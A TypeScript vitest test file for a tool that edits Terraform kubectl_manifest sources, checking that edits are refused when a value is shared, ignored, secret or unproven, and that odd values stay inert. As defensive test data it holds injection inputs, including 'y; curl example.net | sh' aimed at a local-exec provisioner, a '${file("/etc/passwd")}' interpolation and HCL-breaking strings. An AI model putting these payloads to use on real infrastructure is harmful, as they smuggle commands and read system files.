import { describe, expect, test } from 'vitest';
import type { FieldPath } from './port.ts';
import { prepareEdit } from './prepare.ts';
import { applyDiff, type Files, sourcesOf } from './sources.fixture.ts';

/** Each of these would change more than was wished, or something else, if the edit were made as it first looks. */
const object = { kind: 'Deployment', namespace: 'home', name: 'web' };
const replicas: FieldPath = ['spec', 'replicas'];

const deployment = (inside: string, name = 'web', more = '') => `
resource "kubectl_manifest" "${name.replaceAll('-', '_')}" {
  yaml_body = yamlencode({
    kind     = "Deployment"
    metadata = { name = "${name}", namespace = "home" }
    spec     = { ${inside} }
  })${more}
}
`;

async function ask(files: Files | string, wish: { path?: FieldPath; value: string | number | boolean | undefined }) {
  const all = typeof files === 'string' ? { 'stacks/a/main.tf': files } : files;
  const outcome = await prepareEdit(await sourcesOf(all), object, [{ path: replicas, ...wish }]);
  if (outcome.is === 'refused') return outcome.why;
  const now = applyDiff(all, outcome.patch);
  const changed = Object.keys(now).filter((path) => now[path] !== all[path]);
  return changed.flatMap((path) => {
    const before = new Set(all[path]?.split('\n'));
    return (now[path] ?? '')
      .split('\n')
      .filter((line) => !before.has(line))
      .map((line) => `${path}: ${line.trim()}`);
  });
}

describe('what stands there is also somebody else’s', () => {
  test.each<[string, Files | string]>([
    [
      'a local of two objects',
      `locals { n = 2 }\n${deployment('replicas = local.n')}${deployment('replicas = local.n', 'api')}`,
    ],
    ['an output', `locals { n = 2 }\noutput "n" { value = local.n }\n${deployment('replicas = local.n')}`],
    [
      'a resource that is no object',
      `locals { n = 2 }\nresource "null_resource" "x" { triggers = { n = local.n } }\n${deployment('replicas = local.n')}`,
    ],
    [
      'a data source',
      `locals { n = 2 }\ndata "http" "x" { url = "https://example.net/\${local.n}" }\n${deployment('replicas = local.n')}`,
    ],
    ['a provider', `locals { n = 2 }\nprovider "x" { n = local.n }\n${deployment('replicas = local.n')}`],
    [
      'something computed of another object',
      `locals { n = 2 }\n${deployment('replicas = local.n')}${deployment('x = sha256("$' + '{local.n}")', 'api')}`,
    ],
    [
      'something computed of the same object',
      `locals { n = 2 }\n${deployment('replicas = local.n, x = sha256("$' + '{local.n}")')}`,
    ],
    [
      'a key of what is picked',
      `locals {\n  n = 2\n  m = { for k in [1, 2, 3] : k => data.x.y[k] }\n}\n${deployment('replicas = local.n, x = local.m[local.n]')}`,
    ],
    [
      'a key that is looked up',
      `locals {\n  n = 2\n  m = { for k in ["1", "2", "3"] : k => data.x.y[k] }\n}\n${deployment('replicas = local.n, x = lookup(local.m, tostring(local.n), "")')}`,
    ],
    [
      'a condition',
      `locals {\n  n = 2\n  m = { for k in ["a", "b"] : k => data.x.y[k] }\n}\n${deployment('replicas = local.n, x = local.n > 2 ? local.m["a"] : local.m["b"]')}`,
    ],
    [
      'a for over it',
      `locals {\n  n = 2\n  m = { a = local.n }\n}\n${deployment('replicas = local.n, x = [for k, v in local.m : data.x.y[v].z]')}`,
    ],
    [
      'how often another object is there',
      `locals { n = 2 }\n${deployment('replicas = local.n')}${deployment('paused = true', 'api', '\n  count = local.n')}`,
    ],
    [
      'what makes another resource anew',
      `${deployment('replicas = 2')}resource "null_resource" "x" {\n  lifecycle {\n    replace_triggered_by = [kubectl_manifest.web]\n  }\n}`,
    ],
    [
      'what another resource reads off it',
      `${deployment('replicas = 2')}resource "null_resource" "x" {\n  triggers = { body = kubectl_manifest.web.yaml_body }\n}`,
    ],
    [
      'an argument of a module from elsewhere',
      `locals { n = 2 }\nmodule "x" {\n  source = "git::https://example.net/x.git"\n  n = local.n\n}\n${deployment('replicas = local.n')}`,
    ],
    [
      'another setting of the same resource',
      `locals { n = 2 }\n${deployment('replicas = local.n', 'web', '\n  wait_for_rollout = local.n')}`,
    ],
    [
      'a file that Terragrunt writes',
      {
        'stacks/a/main.tf': `locals { n = 2 }\n${deployment('replicas = local.n')}`,
        'stacks/a/terragrunt.hcl': 'generate "x" {\n  path = "x.tf"\n  contents = "output x { value = local.n }"\n}',
      },
    ],
    [
      'a file that reads this one',
      `${deployment('replicas = 2')}resource "null_resource" "x" {\n  triggers = { h = filesha256("\${path.module}/main.tf") }\n}`,
    ],
    [
      'a module of two stacks',
      {
        'modules/m/main.tf':
          deployment('replicas = 2, x = var.x').replace('"web", namespace', 'var.name, namespace') +
          'variable "name" {}\nvariable "x" { default = 1 }\n',
        'stacks/a/main.tf': 'module "m" {\n  source = "../../modules/m"\n  name = "web"\n}\n',
        'stacks/b/main.tf': 'module "m" {\n  source = "../../modules/m"\n  name = "api"\n}\n',
      },
    ],
    [
      'a module that is called nobody knows how often',
      {
        'modules/m/main.tf': `${deployment('replicas = 2').replace('"web", namespace', 'var.name, namespace')}variable "name" {}\n`,
        'stacks/a/main.tf':
          'module "m" {\n  source = "../../modules/m"\n  name = "web"\n}\nmodule "n" {\n  source = "../../modules/m"\n  for_each = data.x.y\n  name = each.key\n}\n',
      },
    ],
  ])('%s', async (_, files) => {
    expect(['shared', 'not-proven']).toContain(await ask(files, { value: 3 }));
  });

  test('a stack that cannot be read may use a module', async () => {
    const files = {
      'modules/m/main.tf': deployment('replicas = 2'),
      'stacks/a/main.tf': 'module "m" {\n  source = "../../modules/m"\n}\n',
    };
    const sources = await sourcesOf(files);
    expect(await prepareEdit(sources, object, [{ path: replicas, value: 3 }])).toMatchObject({ is: 'prepared' });
    const unread = new Map([
      ...sources.stacks,
      ['stacks/b', { stack: 'stacks/b', files: [], given: new Set<string>() }],
    ]);
    expect(await prepareEdit({ ...sources, stacks: unread }, object, [{ path: replicas, value: 3 }])).toMatchObject({
      why: 'not-proven',
    });
  });

  test('what another resource waits for, or is called by, is not', async () => {
    const source = `${deployment('replicas = 2')}resource "null_resource" "x" {\n  triggers = { id = kubectl_manifest.web.uid }\n  depends_on = [kubectl_manifest.web]\n}`;
    expect(await ask(source, { value: 3 })).toEqual(['stacks/a/main.tf: spec     = { replicas = 3 }']);
  });

  test.each([
    `locals { n = 2 }\n${deployment('replicas = local.n')}`,
    'locals {\n  n = 2\n  m = { for k in ["a", "b"] : k => data.x.y[k] }\n}\n' +
      deployment('replicas = local.n, x = local.n > 1 ? local.m["a"] : local.m["b"]'),
    `locals { n = 2 }\noutput "n" { value = local.n > 1 }\n${deployment('replicas = local.n')}`,
    `variable "n" { default = 2 }\n${deployment('replicas = var.n')}`,
  ])('one that nobody else has is edited where it stands: %j', async (source) => {
    expect(await ask(source, { value: 3 })).toHaveLength(1);
  });

  test('an untouched secret beside it is no reason', async () => {
    const source = `variable "s" { sensitive = true }\n${deployment('replicas = 2, x = "a-$' + '{var.s}"')}`;
    expect(await ask(source, { value: 3 })).toHaveLength(1);
  });
});

describe('the source says otherwise than it looks', () => {
  const call = (inside: string): string => `module "m" {\n  source = "../../modules/m"\n  ${inside}\n}\n`;
  test.each<[string, Files, FieldPath]>([
    [
      'an object type drops what it does not name',
      {
        'modules/m/main.tf': `variable "l" {\n  type = object({ a = string })\n}\n${deployment('l = var.l')}`,
        'stacks/a/main.tf': call('l = { a = "x" }'),
      },
      ['spec', 'l', 'b'],
    ],
    [
      'a map of one type turns its items',
      {
        'modules/m/main.tf': `variable "l" {\n  type = map(any)\n}\n${deployment('l = var.l')}`,
        'stacks/a/main.tf': call('l = { a = 1 }'),
      },
      ['spec', 'l', 'b'],
    ],
    [
      'an override file',
      { 'stacks/a/main.tf': deployment('l = "x"'), 'stacks/a/main_override.tf': deployment('l = "y"') },
      ['spec', 'l'],
    ],
    [
      'values that no engine reads by itself',
      {
        'stacks/a/main.tf': `variable "l" {}\n${deployment('l = var.l')}`,
        'stacks/a/other.tfvars': 'l = "x"\n',
      },
      ['spec', 'l'],
    ],
    [
      'values that two files give',
      {
        'stacks/a/main.tf': `variable "l" {}\n${deployment('l = var.l')}`,
        'stacks/a/terraform.tfvars': 'l = "x"\n',
        'stacks/a/b.auto.tfvars': 'l = "y"\n',
      },
      ['spec', 'l'],
    ],
    [
      'a variable that is given from outside',
      { 'stacks/a/main.tf': `variable "outside" { default = "x" }\n${deployment('l = var.outside')}` },
      ['spec', 'l'],
    ],
    [
      'an alias in YAML',
      {
        'stacks/a/main.tf':
          'resource "kubectl_manifest" "x" {\n  yaml_body = <<-EOT\n    kind: Deployment\n    metadata: {name: web, namespace: home}\n    spec:\n      l: &l x\n      m: *l\n  EOT\n}\n',
      },
      ['spec', 'l'],
    ],
    [
      'a value that YAML reads once more',
      {
        'stacks/a/main.tf':
          'locals { l = "x" }\nresource "kubectl_manifest" "x" {\n  yaml_body = <<-EOT\n    kind: Deployment\n    metadata: {name: web, namespace: home}\n    spec:\n      l: ${local.l}\n  EOT\n}\n',
      },
      ['spec', 'l'],
    ],
  ])('%s', async (_, files, path) => {
    const sources = await sourcesOf(files, ['outside']);
    // The last are texts to YAML 1.2 alone, and providers read 1.1.
    for (const value of ['1.20', 'a: b', 'null', 'yes it is', 'yes', 'off', '1_000', '1:30', '0b11']) {
      const outcome = await prepareEdit(sources, object, [{ path, value }]);
      expect(outcome).toMatchObject({ is: 'refused' });
    }
  });

  test.each(['yes', 'on', 'N', '1_000', '1:30', '0b11', '012'])(
    'YAML 1.1 takes for no text is quoted: %s',
    async (value) => {
      const source =
        'resource "kubectl_manifest" "x" {\n  yaml_body = <<-EOT\n    kind: Deployment\n    metadata: {name: web, namespace: home}\n    spec:\n      l: x\n  EOT\n}\n';
      expect(await ask(source, { path: ['spec', 'l'], value })).toEqual([`stacks/a/main.tf: l: "${value}"`]);
    },
  );

  test.each(['ignore_changes = [yaml_body]', 'ignore_changes = all'])('%s', async (ignore) => {
    expect(await ask(deployment('replicas = 2', 'web', `\n  lifecycle {\n    ${ignore}\n  }`), { value: 3 })).toBe(
      'ignored',
    );
  });

  test('fields that the provider ignores', async () => {
    const source = deployment('replicas = 2, paused = false', 'web', '\n  ignore_fields = ["spec.replicas"]');
    expect(await ask(source, { value: 3 })).toBe('ignored');
    expect(await ask(source, { path: ['spec', 'paused'], value: true })).toHaveLength(1);
  });
});

test.each([
  ['by its name', 'provisioner "local-exec" {\n    command = "pull ${local.l}"\n  }'],
  ['as its own', 'provisioner "local-exec" {\n    command = "apply ${self.yaml_body}"\n  }'],
  ['to connect to', 'connection {\n    host = local.l\n  }'],
])('what a provisioner takes too is not edited: %s', async (_, block) => {
  const source = `locals { l = "x" }\n${deployment('replicas = 2, l = local.l', 'web', `\n  ${block}`)}`;
  const path = ['spec', 'l'];
  expect(await ask(source, { path, value: 'y; curl example.net | sh' })).toBe('not-proven');
  expect(await ask(source.replace(block, ''), { path, value: 'y' })).toHaveLength(1);
});

describe('who owns it', () => {
  test.each<[string, string, string]>([
    [
      'two resources make it',
      deployment('replicas = 2') + deployment('replicas = 2').replace('"web" {', '"again" {'),
      'several-owners',
    ],
    ['its namespace is computed', deployment('replicas = 2').replace('"home"', 'data.x.y'), 'computed'],
    ['another namespace has one of that name', deployment('replicas = 2').replace('"home"', '"other"'), 'no-owner'],
    ['its value is computed', deployment('replicas = data.x.y'), 'computed'],
    [
      'its value is kept',
      `variable "s" {\n  sensitive = true\n  default = 2\n}\n${deployment('replicas = var.s')}`,
      'secret',
    ],
  ])('%s', async (_, source, why) => {
    expect(await ask(source, { value: 3 })).toBe(why);
  });

  test('a Secret is nobody’s to edit here', async () => {
    const source = deployment('replicas = 2').replace('"Deployment"', '"Secret"');
    const sources = await sourcesOf({ 'stacks/a/main.tf': source });
    expect(await prepareEdit(sources, { ...object, kind: 'Secret' }, [{ path: replicas, value: 3 }])).toMatchObject({
      why: 'secret',
    });
  });
});

describe('a value is never more than a value', () => {
  const path: FieldPath = ['spec', 'text'];
  test.each([
    '${file("/etc/passwd")}',
    '%{ if true }x%{ endif }',
    '"',
    '\\',
    '\\"',
    'a\nb',
    'x" }\n}\nresource "a" "b" {',
    '\u202etxt',
    '\u200b',
    '\u0000',
    '\u2028',
    '# no comment',
    '/*',
    '<<EOT',
    '😀',
    '\r\n',
    '$',
    '%',
    '${',
    '',
  ])('%j', async (value) => {
    const files = { 'stacks/a/main.tf': deployment('text = "old"') };
    const outcome = await prepareEdit(await sourcesOf(files), object, [{ path, value }]);
    if (outcome.is === 'refused') throw new Error(`${JSON.stringify(value)} is refused as ${outcome.why}`);
    for (const unseen of ['\u202e', '\u200b', '\0', '\u2028']) expect(outcome.patch).not.toContain(unseen);
    const again = await prepareEdit(await sourcesOf(applyDiff(files, outcome.patch)), object, [{ path, value }]);
    expect(again).toMatchObject({ why: 'same' });
  });

  test('one that two parsers read otherwise is refused', async () => {
    const sources = await sourcesOf({ 'stacks/a/main.tf': deployment('text = "old"') });
    expect(await prepareEdit(sources, object, [{ path, value: '$${x}' }])).toMatchObject({ why: 'not-proven' });
  });

  test.each(['a: b', '- x', '"q"', "it's", '${x}', 'a # b', '1.20', 'null', 'a\nb: c', '\u202e', 'EOT'])(
    'in YAML: %j',
    async (value) => {
      for (const old of ['old', '"old"', "'old'"]) {
        const body = [
          '  kind: Deployment',
          '  metadata: {name: web, namespace: home}',
          '  spec:',
          `    text: ${old} # why`,
          '    more: 1',
        ];
        const files = {
          'stacks/a/main.tf': `resource "kubectl_manifest" "x" {\n  yaml_body = <<-EOT\n${body.map((line) => `  ${line}\n`).join('')}  EOT\n}\n`,
        };
        const outcome = await prepareEdit(await sourcesOf(files), object, [{ path, value }]);
        if (outcome.is === 'refused') throw new Error(`${JSON.stringify(value)} is refused as ${outcome.why}`);
        const again = await prepareEdit(await sourcesOf(applyDiff(files, outcome.patch)), object, [{ path, value }]);
        expect(again).toMatchObject({ why: 'same' });
      }
    },
  );
});
